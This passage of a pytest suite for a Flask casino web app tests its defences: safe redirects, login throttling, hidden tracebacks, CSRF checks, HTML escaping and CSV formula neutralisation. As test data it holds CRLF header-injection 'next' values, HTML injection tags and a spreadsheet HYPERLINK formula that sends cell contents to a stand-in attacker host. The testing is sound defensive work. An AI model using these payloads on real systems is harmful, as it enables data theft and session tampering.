            client, "/auth/login", {"username": "alice", "password": PASSWORD, "next": target}
        )
        assert response.status_code == 303, repr(target)
        assert response.location == expected, repr(target)
        # Logged in already, the login page sends the browser on at once: the same rule.
        again = client.get("/auth/login", query_string={"next": target})
        assert again.status_code == 302 and again.location == expected, repr(target)
        post_form(client, "/auth/logout")


def test_the_language_picker_goes_back_only_to_a_page_of_this_site(player: FlaskClient) -> None:
    for target in FOREIGN_TARGETS:
        response = post_form(player, "/language", {"locale": "fi", "next": target})
        assert (response.status_code, response.location) == (303, "/"), repr(target)


#: ``next`` values that start as a console page does, but that a browser would not read as
#: written (it drops tabs and newlines and reads ``\\`` as ``/``), or no header can hold.
CONSOLE_LOOK_ALIKES = (
    "/operator\r\n/evil.example",
    "/operator\n/evil.example",
    "/operator\t/evil.example",
    "/operator\\evil.example",
    "/operator/%0a/evil.example\nSet-Cookie: x=1",
)


def test_the_time_zone_form_goes_back_only_to_a_console_page(app: Flask) -> None:
    """The console's time-zone form goes back to the page it was sent from: a ``next`` that
    starts like a console page but is none (a newline in it was a 500, a header it could not
    be put in) goes to the audit log, for an auditor and an operator alike, and the zone is
    still set."""
    console = "/operator/ledger?since=2026-12-01"
    for role in ("auditor", "operator"):
        staff = client_as(app, add_user(app, f"staff_{role}", role))
        for target in (*FOREIGN_TARGETS, *CONSOLE_LOOK_ALIKES):
            sent = {"csrf_token": CSRF, "time_zone": "Europe/Oslo", "next": target}
            response = staff.post("/operator/me/time-zone", data=sent)
            assert (response.status_code, response.location) == (303, "/operator/audit"), (
                role,
                repr(target),
            )
        sent = {"csrf_token": CSRF, "time_zone": "UTC", "next": console}
        response = staff.post("/operator/me/time-zone", data=sent)
        assert (response.status_code, response.location) == (303, console), role
        refused = staff.post("/operator/me/time-zone", data={**sent, "time_zone": "Mars/Base"})
        assert refused.status_code == 422, role
        assert f'name="next" value="{console}"' in refused.get_data(as_text=True), role
        refused = staff.post(
            "/operator/me/time-zone",
            data={**sent, "time_zone": "Mars/Base", "next": "/operator\r\n/evil.example"},
        )
        assert refused.status_code == 422, role
        assert 'name="next" value="/operator/audit"' in refused.get_data(as_text=True), role


def test_a_refused_form_goes_back_only_to_a_page_of_this_site(player: FlaskClient) -> None:
    for referrer in ("https://evil.example/x", "http://localhost//evil.example/x"):
        response = post_form(player, "/sota/games", {"stake": "x"}, headers={"Referer": referrer})
        assert response.status_code == 303 and response.location == "/", referrer


def test_pages_send_a_visitor_to_the_login_page_and_back(client: FlaskClient) -> None:
    response = client.get("/history?game=sota")
    assert response.status_code == 303
    assert response.location == "/auth/login?next=/history?game%3Dsota"


def test_a_form_sent_after_logout_goes_to_the_login_page_and_bets_nothing(
    player: FlaskClient,
) -> None:
    post_form(player, "/auth/logout")
    response = post_form(player, "/casino-war/rounds", {"bet": "5"})
    assert response.status_code == 303 and response.location == "/auth/login"
    post_form(player, "/auth/login", {"username": "alice", "password": PASSWORD})
    assert player.get("/api/v1/rounds").get_json()["rounds"] == []


# --- errors ---------------------------------------------------------------------------------------


def test_an_unexpected_error_shows_no_traceback_and_no_detail(
    app: Flask, caplog: pytest.LogCaptureFixture
) -> None:
    app.config["PROPAGATE_EXCEPTIONS"] = False  # as in production: the handlers answer

    def broken() -> str:
        raise RuntimeError("internal detail 0xDEADBEEF at /srv/secret/path.py")

    app.add_url_rule("/broken", "broken", broken)
    app.add_url_rule("/api/v1/broken", "api_broken", broken)
    client = app.test_client()
    page = client.get("/broken")
    api = client.get("/api/v1/broken")
    assert page.status_code == 500 and page.mimetype == "text/html"
    assert "The dealer dropped the cards" in page.get_data(as_text=True)
    assert api.status_code == 500
    assert api.get_json() == {
        "error": {"code": "internal_error", "message": "something went wrong on our side"}
    }
    for body in (page.get_data(as_text=True), api.get_data(as_text=True)):
        for leak in ("Traceback", "RuntimeError", "0xDEADBEEF", "/srv/secret", 'File "'):
            assert leak not in body
    assert "0xDEADBEEF" in caplog.text  # the operator still finds the bug in the log


def test_a_stranger_guessing_cannot_lock_the_owner_out_from_the_owners_address(
    make_app: Any,
) -> None:
    client = make_app(LOGIN_ATTEMPTS=3).test_client()
    api_register(client, "erin")  # signed up from 127.0.0.1: the owner's address
    for _ in range(10):
        api_login(client, "erin", "wrong guess", "203.0.113.66")
    stranger = api_login(client, "erin", PASSWORD, "203.0.113.66")
    owner = api_login(client, "erin", PASSWORD, "127.0.0.1")
    assert (stranger.status_code, owner.status_code) == (429, 200)


def test_strangers_from_many_addresses_cannot_lock_the_owner_out_either(make_app: Any) -> None:
    client = make_app(LOGIN_ATTEMPTS=3).test_client()
    api_register(client, "erin")
    assert api_login(client, "erin", PASSWORD, "192.0.2.10").status_code == 200  # a 2nd home
    for n in range(12):
        api_login(client, "erin", "wrong guess", f"198.51.100.{n}")
    # New addresses are refused for the account, its known addresses are not.
    assert api_login(client, "erin", PASSWORD, "198.51.100.200").status_code == 429
    assert api_login(client, "erin", PASSWORD, "192.0.2.10").status_code == 200
    assert api_login(client, "erin", PASSWORD, "127.0.0.1").status_code == 200


def test_strangers_behind_the_owners_shared_address_cannot_lock_the_owner_out(
    make_app: Any,
) -> None:
    """Behind a carrier's NAT thousands share one address: strangers there failing at many
    names fill the address's count, which holds off their spraying, not the owner of an account
    who logged in from that address lately (whose own count still holds guesses at it)."""
    client = make_app(LOGIN_ATTEMPTS=2).test_client()
    api_register(client, "erin")
    api_register(client, "fred")
    assert api_login(client, "erin", PASSWORD, "192.0.2.1").status_code == 200
    for n in range(8):
        assert api_login(client, f"name{n}", "guess", "192.0.2.1").status_code == 401
    assert api_login(client, "fred", PASSWORD, "192.0.2.1").status_code == 429
    assert api_login(client, "erin", PASSWORD, "192.0.2.1").status_code == 200
    for _ in range(2):
        assert api_login(client, "erin", "wrong guess", "192.0.2.1").status_code == 401
    assert api_login(client, "erin", PASSWORD, "192.0.2.1").status_code == 429


def test_the_owner_failing_at_home_is_throttled_at_home_too(make_app: Any) -> None:
    client = make_app(LOGIN_ATTEMPTS=3).test_client()
    api_register(client, "erin")
    for _ in range(3):
        assert api_login(client, "erin", "wrong guess", "127.0.0.1").status_code == 401
    assert api_login(client, "erin", PASSWORD, "127.0.0.1").status_code == 429


def test_a_players_text_in_a_staff_csv_download_is_never_a_spreadsheet_formula(
    app: Flask, client: FlaskClient
) -> None:
    # A client seed is the player's free text; staff open CSV downloads in spreadsheets, which
    # run a cell starting with =, +, -, @ (or a tab or return before one) as a formula.
    formula = '=HYPERLINK("https://evil.example/?"&A1,"verify")'
    alice = api_register(client, "alice")["id"]
    token = client.post("/api/v1/auth/token", json={"username": "alice", "password": PASSWORD})
    auth = {"Authorization": f"Bearer {token.get_json()['token']}"}
    for seed in (formula, "+1+1", "@SUM(1)", "\t=1", "-2-3"):
        rotated = client.post("/api/v1/fairness/rotate", json={"client_seed": seed}, headers=auth)
        assert rotated.status_code == 200, rotated.get_json()
    operator = client_as(app, add_user(app, "olga", "operator"))
    url = f"/operator/players/{alice}/lists/seed_pairs/export"
    rows = list(csv.DictReader(io.StringIO(operator.get(f"{url}?format=csv").get_data(True))))
    seeds = [row["client_seed"] for row in rows if row["client_seed"]]
    assert seeds[-5:] == ["'" + formula, "'+1+1", "'@SUM(1)", "'\t=1", "'-2-3"]
    # JSON Lines is for programs: the seed as the player sent it.
    lines = operator.get(f"{url}?format=jsonl").get_data(as_text=True).splitlines()
    assert [json.loads(line)["client_seed"] for line in lines][-5:] == [
        formula,
        "+1+1",
        "@SUM(1)",
        "\t=1",
        "-2-3",
    ]


def test_the_text_players_and_operators_type_is_shown_as_text_on_every_page(
    app: Flask, client: FlaskClient
) -> None:
    # A client seed is the player's free text, a reason and a note the operator's: each is shown
    # on pages others read (the console, the approvals, the audit log), never as markup there.
    typed = {
        "seed": '<b id="seed">x</b>',
        "reason": '<img src="x" id="reason">',
        "proposed": '<i id="proposed">big</i>',
        "note": '<u id="note">no</u>',
    }
    alice = api_register(client, "alice")["id"]
    token = client.post("/api/v1/auth/token", json={"username": "alice", "password": PASSWORD})
    auth = {"Authorization": f"Bearer {token.get_json()['token']}"}
    rotated = client.post(
        "/api/v1/fairness/rotate", json={"client_seed": typed["seed"]}, headers=auth
    )
    assert rotated.status_code == 200, rotated.get_json()
    bet = client.post("/api/v1/casino-war/rounds", json={"bet": 100}, headers=auth).get_json()
    if bet["status"] == "awaiting_decision":
        decided = f"/api/v1/casino-war/rounds/{bet['id']}/decision"
        client.post(decided, json={"choice": "surrender"}, headers=auth)
    assert client.post("/api/v1/fairness/rotate", json={}, headers=auth).status_code == 200
    add_user(app, "olga", "operator")
    add_user(app, "oscar", "operator")
    olga, oscar = bearer(app, "olga"), bearer(app, "oscar")
    adjustment = {"user_id": alice, "currency": "chips", "amount": 100, "reason": typed["reason"]}
    assert (
        client.post("/api/v1/operator/adjustments", json=adjustment, headers=olga).status_code
        == 201
    )
    proposal = {**adjustment, "amount": 500_000, "reason": typed["proposed"]}
    proposed = client.post("/api/v1/operator/approvals/adjustments", json=proposal, headers=olga)
    assert proposed.status_code == 201, proposed.get_json()
    rejected = client.post(
        f"/api/v1/operator/approvals/{proposed.get_json()['id']}/reject",
        json={"note": typed["note"]},
        headers=oscar,
    )
    assert rejected.status_code == 200, rejected.get_json()
    player = client_as(app, alice)
    staff = client_as(app, add_user(app, "audrey", "auditor"))
    lists = f"/operator/players/{alice}/lists"
    pages = {
        "/fairness": player,
        f"/history/{bet['id']}": player,
        f"/operator/players/{alice}": staff,
        f"{lists}/transfers": staff,
        f"{lists}/seed_pairs": staff,
        "/operator/audit": staff,
        "/operator/approvals?status=rejected": staff,
        "/operator/approvals": staff,
    }
    shown: dict[str, list[str]] = {name: [] for name in typed}
    for url, reader in pages.items():
        page = reader.get(url)
        assert page.status_code == 200, url
        html = page.get_data(as_text=True)
        for name, text in typed.items():
            assert text not in html, f"{url} shows the {name} as markup"
            if str(escape(text)) in html:
                shown[name].append(url)
    assert all(shown.values()), shown  # each text is on some page, as text


def test_a_csrf_token_of_another_session_or_from_before_login_is_refused(
    app: Flask, client: FlaskClient
) -> None:
    # The token is the browser session's own: one read from another player's pages, or the one
    # this browser had before it logged in (a page kept open since), is worth nothing.
    before_login = csrf_token(client)
    register_page(client, "alice")
    mallory = app.test_client()
    register_page(mallory, "mallory")
    for token in (csrf_token(mallory), before_login):
        page = client.post("/fairness/rotate", data={"csrf_token": token, "client_seed": "x"})
        assert page.status_code == 400
        api = client.post("/api/v1/fairness/rotate", json={}, headers={"X-CSRF-Token": token})
        assert api.status_code == 401
    pairs = client.get("/api/v1/fairness/seed-pair").get_json()
    assert pairs["client_seed"] != "x"  # nothing was rotated
    assert post_form(client, "/fairness/rotate", {"client_seed": "x"}).status_code == 303
